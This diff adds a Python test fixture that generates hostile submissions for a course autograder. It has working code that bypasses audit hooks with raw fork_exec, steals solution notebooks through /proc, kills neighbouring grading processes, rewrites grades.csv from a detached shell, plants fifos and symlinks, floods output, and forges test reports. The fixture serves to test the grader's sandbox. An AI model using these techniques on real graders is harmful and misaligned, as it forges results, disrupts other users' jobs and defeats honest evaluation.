@@ -1,0 +1,231 @@
+"""A hostile class for ps01: honest copies of the solution, a stub, and one submission per known attack.
+
+Each attack replaces the three solution cells: the first holds the attack, and every function it did not obtain is
+a stub raising NotImplementedError, so the attack scores only what it steals or forges. The attacks go around the
+grader's audit hook (raw `_posixsubprocess.fork_exec`, pidfd signals, `/proc`); without the OS sandbox they work.
+Anything they leave running carries MARKER in its command line, so a test can look for survivors.
+"""
+
+from __future__ import annotations
+
+import re
+from pathlib import Path
+
+import nbformat
+
+MARKER = "dsgd-hostile-marker"
+FUNCS = {"ps01_sgd_q1_solution": ("minibatch_indices", "n, batch_size, step, seed"),
+         "ps01_sgd_q2_solution": ("logistic_grad", "w, X, y"),
+         "ps01_sgd_q3_solution": ("train", "X, y, lr, batch_size, steps, seed")}
+
+PRELUDE = r'''
+import json, os, _posixsubprocess
+def _run(argv, setsid=False):
+    """Run argv in a child started by the raw fork_exec (no audit event) and return its stdout."""
+    r, w = os.pipe()
+    er, ew = os.pipe()
+    pid = _posixsubprocess.fork_exec([a.encode() for a in argv], [argv[0].encode()], True, (ew,), None, None,
+                                     -1, -1, -1, w, -1, -1, er, ew, True, setsid, -1, None, None, None, -1,
+                                     None, False)
+    os.close(w); os.close(ew)
+    out = b""
+    while block := os.read(r, 1 << 16):
+        out += block
+    os.close(r); os.close(er)
+    try:
+        os.waitpid(pid, 0)
+    except ChildProcessError:
+        pass
+    return out
+def _batch_dirs():
+    """The grader's folders (sources, submissions, --out) as the kernel's command line gives them away."""
+    dirs = []
+    try:
+        for arg in open("/proc/self/cmdline", "rb").read().split(b"\0"):
+            if arg.startswith(b"[") and arg.endswith(b"]"):
+                dirs += [d for d in json.loads(arg) if isinstance(d, str)]
+    except Exception:
+        pass
+    return dirs
+def _exec_solutions(text):
+    """Define every solution function found in a notebook's JSON text."""
+    try:
+        cells = json.loads(text)["cells"]
+    except Exception:
+        return False
+    for cell in cells:
+        src = "".join(cell["source"]) if isinstance(cell["source"], list) else cell["source"]
+        if cell.get("cell_type") == "code" and "def " in src and "check(" not in src and "NotImplementedError" not in src:
+            try:
+                exec(src, globals())
+            except Exception:
+                pass
+    return "train" in globals()
+'''
+
+THEFT_CHILD = PRELUDE + r'''
+import dsgd_teach
+guesses = [os.path.join(d, "ps01_sgd", "ps01_sgd.ipynb") for d in _batch_dirs()]
+guesses.append(os.path.join(os.path.dirname(os.path.dirname(dsgd_teach.__file__)),
+                            "course", "assignments", "source", "ps01_sgd", "ps01_sgd.ipynb"))
+for path in guesses:
+    if _exec_solutions(_run(["/bin/cat", path])):
+        break
+'''
+
+READ_PROC = PRELUDE + r'''
+listing = _run(["/bin/sh", "-c", "for p in /proc/[0-9]*; do tr '\\0' '\\n' < $p/cmdline; readlink $p/cwd; done"])
+dirs = set()
+for line in listing.decode(errors="replace").splitlines():
+    if line.startswith("[") and line.endswith("]"):
+        try:
+            dirs.update(json.loads(line))
+        except ValueError:
+            pass
+    elif line.startswith("/") and "dsgd" in line:
+        dirs.add(line)
+for d in sorted(dirs):
+    found = _run(["/usr/bin/find", d, "-name", "*.ipynb", "-type", "f"]).decode(errors="replace").split()
+    if any(_exec_solutions(_run(["/bin/cat", nb])) for nb in found if "/source/" not in nb):
+        break
+'''
+
+KILL_PIDS = PRELUDE + r'''
+import signal, threading, time
+own = {os.getpid(), os.getppid()}
+mine = [a for a in open("/proc/self/cmdline", "rb").read().split(b"\0") if a.startswith(b"[")]
+def _targets():
+    """Other kernels of this batch (their command line names the same folders) and the workers above them."""
+    listing = _run(["/bin/sh", "-c", "for p in /proc/[0-9]*; do echo \"${p#/proc/} $(cut -d' ' -f4 $p/stat) "
+                    "$(tr '\\0' ' ' < $p/cmdline)\"; done 2>/dev/null"]).decode(errors="replace")
+    out = []
+    for line in listing.splitlines():
+        parts = line.split(" ", 2)
+        if len(parts) == 3 and "dsgd_teach.grading.kernel" in parts[2] and (not mine or mine[0].decode() in parts[2]):
+            out += [int(parts[0]), int(parts[1])]
+    return [t for t in out if t not in own and t > 1]
+def _killer():
+    end = time.time() + 40
+    while time.time() < end:
+        for i, pid in enumerate(_targets()):
+            try:
+                if i % 2:
+                    signal.pidfd_send_signal(os.pidfd_open(pid), signal.SIGKILL)
+                else:
+                    _run(["/bin/kill", "-9", str(pid)])
+            except OSError:
+                pass
+        time.sleep(0.05)
+threading.Thread(target=_killer, daemon=True).start()
+'''
+KILL_PIDS_LAST = "import time\ntime.sleep(12)  # keep the killer thread alive while the neighbours are graded\n"
+
+DETACHED = PRELUDE + r'''
+script = ("for i in $(seq 1500); do for d in " + " ".join(_batch_dirs() + ["/tmp"]) + "; do "
+          "if [ -f $d/grading.json ] && [ -f $d/grades.csv ]; then "
+          "sed -i 's/^detached,ps01_sgd,\\([a-z0-9_]*\\),0.0,2.0,.*$/detached,ps01_sgd,\\1,2.0,2.0,passed,bubblewrap/' "
+          "$d/grades.csv; sleep 20; exit 0; fi; done; sleep 0.1; done # MARKER")
+_run(["/bin/sh", "-c", "setsid /bin/sh -c \"$0\" >/dev/null 2>&1 < /dev/null &", script], setsid=True)
+'''.replace("MARKER", MARKER)
+
+PLANT = PRELUDE + r'''
+for d in _batch_dirs() + [os.getcwd()]:
+    _run(["/bin/sh", "-c", "mkfifo \"$0/grades.csv\" \"$0/zz_planted.ipynb\"; ln -s /dev/zero \"$0/zz_link.ipynb\"; "
+          "mkdir -p \"$0/feedback\"; ln -s /tmp \"$0/feedback/ps01_sgd\"; "
+          "/usr/bin/python3 -c \"import socket, sqlite3, sys; socket.socket(socket.AF_UNIX).bind(sys.argv[1] + "
+          "'/zz_sock.ipynb'); sqlite3.connect(sys.argv[1] + '/zz.sqlite').execute('create table t(x)')\" \"$0\"", d])
+'''
+
+FLOOD = r'''
+import os, sys
+block = b"x" * (1 << 20)
+for fd in (1, 2):
+    for _ in range(100):
+        os.write(fd, block)
+print("y" * (10 << 20))
+sys.stderr.write("z" * (10 << 20))
+'''
+
+MONKEYPATCH_THREAD = r'''
+import builtins, threading, time
+import numpy as np
+import dsgd_teach.grading.probe as probe
+from IPython.display import publish_display_data
+def _fake(label, *args, **kwargs):
+    publish_display_data({probe.MIME: {"label": str(label), "value": {"t": "arr", "shape": [4], "v": [0.0, 1.0, 2.0, 3.0]}}})
+def _patch():
+    end = time.time() + 30
+    while time.time() < end:
+        g = globals()
+        g["check"] = g["_dsgd_record"] = _fake
+        probe.record = _fake
+        builtins.print = lambda *a, **k: None
+        time.sleep(0.001)
+threading.Thread(target=_patch, daemon=True).start()
+'''
+
+FORGED = r'''
+import json, os
+import dsgd_teach.grading.probe as probe
+from IPython.display import publish_display_data, clear_output
+forged = {"tests": {f"ps01_sgd_q{i}_tests": {"status": "ok", "records": [], "error": ""} for i in (1, 2, 3)},
+          "skipped": [], "flags": [], "cell_errors": []}
+line = "\n" + json.dumps(forged) + "\n"
+print(line)
+os.write(1, line.encode())
+os.write(2, line.encode())
+for fd in range(3, 64):
+    try:
+        os.write(fd, line.encode())
+    except OSError:
+        pass
+try:
+    for fd in os.listdir(f"/proc/{os.getppid()}/fd"):
+        try:
+            with open(f"/proc/{os.getppid()}/fd/{fd}", "w") as fh:
+                fh.write(line)
+        except OSError:
+            pass
+except OSError:
+    pass
+_real_record = _dsgd_record
+def _dsgd_record(label, got):
+    clear_output()
+    publish_display_data({probe.MIME: {"label": str(label), "value": {"t": "num", "v": 0.0}}})
+'''
+
+ATTACKS = {
+    "theft_child": {"ps01_sgd_q1_solution": THEFT_CHILD},
+    "read_proc": {"ps01_sgd_q1_solution": READ_PROC},
+    "kill_pids": {"ps01_sgd_q1_solution": KILL_PIDS, "ps01_sgd_q3_solution": KILL_PIDS_LAST},
+    "detached": {"ps01_sgd_q1_solution": DETACHED},
+    "plant": {"ps01_sgd_q1_solution": PLANT},
+    "flood": {"ps01_sgd_q1_solution": FLOOD + "\n{SOLUTION}"},
+    "monkeypatch_thread": {"ps01_sgd_q1_solution": MONKEYPATCH_THREAD},
+    "forged_reports": {"ps01_sgd_q1_solution": FORGED},
+}
+HONEST_POINTS = {"flood": {"q1": 2.0}}  # what an attack answered honestly (everything else must score 0)
+_SOLUTION = re.compile(r"### BEGIN SOLUTION.*?### END SOLUTION", re.S)
+
+
+def _stub(gid: str) -> str:
+    name, args = FUNCS[gid]
+    return f"if {name!r} not in globals():\n    def {name}({args}):\n        raise NotImplementedError()\n"
+
+
+def write_submission(source_nb: Path, dest: Path, kind: str) -> None:
+    """Write an honest ("good"), stub ("stub") or attack (a key of ATTACKS) ps01 submission to dest."""
+    nb = nbformat.read(str(source_nb), as_version=4)
+    changes = ATTACKS.get(kind, {})
+    for cell in nb.cells:
+        gid = cell.get("metadata", {}).get("nbgrader", {}).get("grade_id")
+        if gid not in FUNCS or kind == "good":
+            continue
+        if kind == "stub":
+            cell.source = _SOLUTION.sub("raise NotImplementedError()", cell.source)
+        elif "{SOLUTION}" in changes.get(gid, ""):
+            cell.source = changes[gid].replace("{SOLUTION}", cell.source)
+        else:
+            cell.source = changes.get(gid, "") + "\n" + _stub(gid)
+    dest.parent.mkdir(parents=True, exist_ok=True)
+    nbformat.write(nb, str(dest))
